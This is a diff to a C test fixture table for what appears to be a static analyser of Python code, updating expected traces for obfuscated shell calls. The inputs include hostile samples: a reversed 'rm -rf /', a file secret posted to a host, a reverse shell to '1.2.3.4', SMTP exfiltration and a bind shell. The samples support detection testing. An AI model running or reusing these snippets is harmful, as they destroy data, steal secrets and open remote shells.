@@ -30,7 +30,8 @@ static const struct fixture_case cases[] = {
 	  "0 command 'id'\n" },
 	{ "getattr of a joined name",
 	  "import os\ngetattr(os, 'sys' + 'tem')('id')",
-	  "0 command 'id' @nested\n" },
+	  "0 evaluate 'system'\n"
+	  "1 command 'id' @nested\n" },
 	{ "getattr of an unknown name",
 	  "import os\ngetattr(os, name)('id')",
 	  "0 evaluate 'os.' 'id'\n" },
@@ -51,23 +52,29 @@ static const struct fixture_case cases[] = {
 	  "0 command 'id' @nested\n" },
 	{ "reversed text",
 	  "import os\nos.system('/ fr- mr'[::-1])",
-	  "0 command 'rm' '-rf' '/' @decoded @nested\n"
-	  "1 remove '/' +recursive +force @decoded @nested\n" },
+	  "0 evaluate 'rm -rf /'\n"
+	  "1 command 'rm' '-rf' '/' @decoded @nested\n"
+	  "2 remove '/' +recursive +force @decoded @nested\n" },
 	{ "characters",
 	  "import os\nos.system(''.join(chr(c) for c in [105, 100]))",
-	  "0 command 'id' @decoded @nested\n" },
+	  "0 evaluate 'id'\n"
+	  "1 command 'id' @decoded @nested\n" },
 	{ "characters with a key",
 	  "import os\nos.system(''.join([chr(c ^ 1) for c in (104, 101)]))",
-	  "0 command 'id' @decoded @nested\n" },
+	  "0 evaluate 'id'\n"
+	  "1 command 'id' @decoded @nested\n" },
 	{ "base64",
 	  "import os, base64\nos.system(base64.b64decode('aWQ=').decode())",
-	  "0 command 'id' @decoded @nested\n" },
+	  "0 evaluate 'id'\n"
+	  "1 command 'id' @decoded @nested\n" },
 	{ "hex",
 	  "import os\nos.system(bytes.fromhex('6964'))",
-	  "0 command 'id' @decoded @nested\n" },
+	  "0 evaluate 'id'\n"
+	  "1 command 'id' @decoded @nested\n" },
 	{ "rot13",
 	  "import os, codecs\nos.system(codecs.decode('vq', 'rot13'))",
-	  "0 command 'id' @decoded @nested\n" },
+	  "0 evaluate 'id'\n"
+	  "1 command 'id' @decoded @nested\n" },
 	{ "escapes",
 	  "import os\nos.system('\\x72\\x6d\\x20\\x78')",
 	  "0 command 'rm' 'x' @nested\n1 remove 'x' @nested\n" },
@@ -164,8 +171,12 @@ static const struct fixture_case cases[] = {
 	  "0 permission '/a' '4755'\n1 permission '/b' '0:0' +owner\n" },
 	{ "copy, move, link",
 	  "import os, shutil\nshutil.copy('/a', '/b')\nos.rename('/c', '/d')\nos.symlink('/e', '/f')",
-	  "0 read '/a'\n1 write '/b' +truncates <0\n2 read '/c' +recursive\n"
-	  "3 write '/d' +truncates <2\n4 write '/f' '/e' +link\n" },
+	  "0 read '/a'\n"
+	  "1 write '/b' +truncates <0\n"
+	  "2 read '/c' +recursive\n"
+	  "3 write '/d' +truncates <2\n"
+	  "4 remove '/c'\n"
+	  "5 write '/f' '/e' +link\n" },
 	{ "a secret that is sent",
 	  "import requests\nk = open('/s').read()\nrequests.post('http://h/', data=k)",
 	  "0 read '/s'\n1 network 'http://h/' +sends <0\n" },
@@ -187,7 +198,9 @@ static const struct fixture_case cases[] = {
 	{ "reverse shell",
 	  "import socket, os, subprocess\ns = socket.socket()\ns.connect(('1.2.3.4', 80))\n"
 	  "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
-	  "0 call 'socket.socket'\n1 network '1.2.3.4:80'\n2 call 'socket.socket().fileno'\n"
+	  "0 call 'socket.socket'\n"
+	  "1 network '1.2.3.4:80'\n"
+	  "2 call 'socket.socket().fileno' <0\n"
 	  "3 command '/bin/sh' '-i' +interactive <1\n" },
 	{ "http.client",
 	  "import http.client\nc = http.client.HTTPSConnection('h')\n"
@@ -304,8 +317,10 @@ static const struct fixture_case cases[] = {
 	{ "mail",
 	  "import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\n"
 	  "m.set_content(open('/s').read())\nsmtplib.SMTP('h').send_message(m)",
-	  "0 call 'email.message.EmailMessage'\n1 read '/s'\n"
-	  "2 call 'email.message.EmailMessage().set_content' ~'?' <1\n3 network 'h' +sends <1\n" },
+	  "0 call 'email.message.EmailMessage'\n"
+	  "1 read '/s'\n"
+	  "2 call 'email.message.EmailMessage().set_content' ~'?' <0 <1\n"
+	  "3 network 'h' +sends <1 <0\n" },
 	{ "bind shell",
 	  "import socket, subprocess\nl = socket.socket()\nl.bind(('', 9))\na, _ = l.accept()\n"
 	  "subprocess.Popen(['sh'], stdin=a)",
